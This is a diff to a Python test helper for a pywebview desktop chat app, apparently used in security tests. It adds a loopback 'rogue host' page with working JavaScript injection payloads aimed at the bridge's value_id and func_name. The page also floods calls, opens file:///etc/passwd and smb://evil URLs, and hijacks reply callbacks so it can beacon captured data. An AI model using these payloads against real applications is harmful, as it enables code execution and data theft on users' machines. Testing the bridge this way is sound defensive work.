@@ -104,8 +104,9 @@ class DesktopApp:
     """``python -m desktop`` in a subprocess; ``eval``/``state``/``close`` via the control port."""
 
     def __init__(self, home: Path, display: str | None, *args: str,
-                 control: bool = True) -> None:
+                 control: bool = True, env: dict[str, str] | None = None) -> None:
         self.home = home
+        self.display = display
         self.control_port = free_port() if control else None
         self.app_port = free_port()
         self.stdout_path = home / "stdout.txt"
@@ -115,8 +116,9 @@ class DesktopApp:
                "--data-dir", str(home / "chat-data"), *args]
         self.started_at = time.monotonic()
         with open(self.stdout_path, "wb") as out, open(self.stderr_path, "wb") as err:
-            self.proc = subprocess.Popen(cmd, cwd=ROOT, env=app_env(home, display,
-                                                                    self.control_port),
+            self.proc = subprocess.Popen(cmd, cwd=ROOT, env={**app_env(home, display,
+                                                                       self.control_port),
+                                                              **(env or {})},
                                          stdout=out, stderr=err, start_new_session=True)
         self.http = httpx.Client(timeout=30)
 
@@ -180,3 +182,177 @@ class DesktopApp:
 def js_string(value: str) -> str:
     return json.dumps(value)
 
+
+def _xdotool(display: str, *args: str) -> subprocess.CompletedProcess[str]:
+    return subprocess.run(["xdotool", *args], env={**os.environ, "DISPLAY": display},
+                          capture_output=True, text=True, timeout=15)
+
+
+def visible_windows(display: str, name: str) -> list[str]:
+    """X window ids of visible windows whose title contains ``name``."""
+    return _xdotool(display, "search", "--onlyvisible", "--name", name).stdout.split()
+
+
+def window_position(display: str, window_id: str) -> str:
+    return _xdotool(display, "getwindowgeometry", window_id).stdout.split("\n")[1].strip()
+
+
+def question_windows(display: str) -> list[str]:
+    """X window ids of the app's "host a room?" question now on the screen."""
+    return _xdotool(display, "search", "--onlyvisible", "--name", "host a room").stdout.split()
+
+
+def answer_hosting_question(app: DesktopApp, host: bool, timeout: float = 20) -> None:
+    """Answer the native "host a room?" dialog as a person would, with the keyboard (through
+    the X server, which no page can reach): Alt+H to host, Escape to decline."""
+    import shutil
+
+    from tests.conftest import need_tool
+    need_tool(shutil.which("xdotool"), "xdotool")
+    assert app.display is not None
+    found = wait_until(lambda: question_windows(str(app.display)), timeout=timeout,
+                       what="the hosting question to appear")
+    _xdotool(app.display, "windowfocus", "--sync", found[0])
+    _xdotool(app.display, "key", "--clearmodifiers", "alt+h" if host else "Escape")
+    wait_until(lambda: not question_windows(str(app.display)), timeout=timeout,
+               what="the hosting question to close")
+
+
+
+# A rogue host's page ------------------------------------------------------------------------
+
+# What the page tries to get evaluated: it would mark the page, tell the rogue server, rewrite the
+# prefs and host a room. It is put where pywebview embeds the page's value_id (and func_name)
+# into the reply script it evaluates.
+PAYLOAD = ('try{if(!window.__pwned){window.__pwned=1;'
+           'navigator.sendBeacon("/ran?at="+encodeURIComponent(location.href));'
+           'localStorage.setItem("pwned",location.href);'
+           'window.pywebview.api.set_prefs({name:"Mallory",last_room:"http://evil.invalid/"});'
+           'window.pywebview.api.host_room({room:"Pwned",name:"Mallory"});}}catch(e){}')
+
+HOSTILE_PAGE = """<!doctype html><meta charset="utf-8"><title>Rogue room</title>
+<h1>Rogue room</h1><p id="status">waiting for the bridge</p>
+<script>
+const PAYLOAD = %(payload)s;
+const MODE = new URLSearchParams(location.search).get('mode');
+const COUNT = Number(new URLSearchParams(location.search).get('count') || 2000);
+function say(text) {
+  document.getElementById('status').textContent = text;
+  fetch('/log?' + encodeURIComponent(text));
+}
+function ready(go) {
+  if (window.pywebview && window.pywebview._QWebChannel) go();
+  else window.addEventListener('pywebviewready', go, { once: true });
+}
+async function inject() {
+  const lobby = await window.pywebview.api.lobby_url();
+  const ch = window.pywebview._QWebChannel.objects.external;
+  const evilId = 'x"];' + PAYLOAD + '//';
+  const evilName = 'get_prefs"]["x"];' + PAYLOAD + '//';
+  // Calls that keep the app busy for a while, so that replies are still due after the
+  // window has gone back to the lobby.
+  const slow = JSON.stringify([1, 'a '.repeat(300000)]);
+  for (let i = 0; i < 20; i++) ch.call('set_unread', slow, evilId);
+  for (let i = 0; i < COUNT; i++) {
+    ch.call(i %% 2 ? 'get_prefs' : 'lobby_url', '[]', evilId);
+    if (i %% 100 === 0) ch.call(evilName, '[]', String(i));
+  }
+  say('sent ' + COUNT + ' calls; going to ' + lobby);
+  location.href = lobby;
+}
+async function flood() {
+  const ch = window.pywebview._QWebChannel.objects.external;
+  const started = performance.now();
+  let sent = 0;
+  while (sent < COUNT && performance.now() - started < 8000) {
+    for (let i = 0; i < 500 && sent < COUNT; i++, sent++) {
+      ch.call(sent %% 3 ? 'get_prefs' : 'set_unread', sent %% 3 ? '[]' : '[1]', String(sent));
+    }
+    await new Promise((r) => setTimeout(r, 0));
+  }
+  say('flooded ' + sent + ' calls in ' + Math.round(performance.now() - started) + ' ms');
+}
+async function opens() {
+  for (let i = 0; i < 20; i++) window.pywebview.api.open_external('http://127.0.0.1:9/api' + i);
+  for (let i = 0; i < 20; i++) window.open('http://127.0.0.1:9/popup' + i);
+  for (const u of ['file:///etc/passwd', 'smb://evil/share', 'javascript:alert(1)']) {
+    window.open(u);
+    window.pywebview.api.open_external(u);
+  }
+  say('opened');
+}
+async function catchAll() {
+  // Any reply evaluated in this page, whatever its name and id, is reported to the server.
+  const seen = (v) => navigator.sendBeacon('/caught?' + encodeURIComponent(JSON.stringify(v)));
+  const inner = new Proxy({}, { get: () => seen });
+  window.pywebview._returnValuesCallbacks = new Proxy({}, { get: () => inner });
+  say('catching');
+}
+async function nuisance() {
+  const ch = window.pywebview._QWebChannel.objects.external;
+  for (let i = 0; i < 50; i++) window.alert('Your computer needs attention ' + i);
+  for (let i = 0; i < 50; i++) {
+    ch.call('pywebviewMoveWindow', JSON.stringify([i * 7, i * 5]), 'move');
+  }
+  say('nuisance');
+}
+const MODES = { flood, inject, open: opens, catch: catchAll, nuisance };
+ready(() => MODES[MODE]().catch((e) => say('error ' + e)));
+</script>
+"""
+
+
+class HostilePage:
+    """A rogue host on a free loopback port: serves HOSTILE_PAGE and records every request
+    (the payload's beacon lands on ``/ran``)."""
+
+    def __init__(self) -> None:
+        import threading
+        from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+
+        self.requests: list[str] = []
+        page = (HOSTILE_PAGE % {"payload": json.dumps(PAYLOAD)}).encode()
+        seen = self.requests
+
+        class Handler(BaseHTTPRequestHandler):
+            def log_message(self, format: str, *args: Any) -> None:  # noqa: A002
+                pass
+
+            def _answer(self) -> None:
+                seen.append(self.path)
+                body = page if self.path.startswith("/?") or self.path == "/" else b""
+                self.send_response(200)
+                self.send_header("content-type", "text/html; charset=utf-8")
+                self.send_header("content-length", str(len(body)))
+                self.end_headers()
+                self.wfile.write(body)
+
+            do_GET = _answer
+            do_POST = _answer
+
+        self._httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self._httpd.daemon_threads = True
+        self.port = int(self._httpd.server_address[1])
+        self._thread = threading.Thread(target=self._httpd.serve_forever, args=(0.05,),
+                                        daemon=True)
+        self._thread.start()
+
+    def url(self, mode: str, count: int) -> str:
+        return f"http://127.0.0.1:{self.port}/?mode={mode}&count={count}"
+
+    def caught(self) -> list[str]:
+        """Replies that were evaluated in the rogue page (mode ``catch``)."""
+        return [p for p in list(self.requests) if p.startswith("/caught")]
+
+    def ran(self) -> list[str]:
+        """Where the payload ran (each beacon's page address)."""
+        return [p for p in list(self.requests) if p.startswith("/ran")]
+
+    def logs(self) -> list[str]:
+        from urllib.parse import unquote
+        return [unquote(p[5:]) for p in list(self.requests) if p.startswith("/log?")]
+
+    def stop(self) -> None:
+        self._httpd.shutdown()
+        self._httpd.server_close()
+        self._thread.join(2)
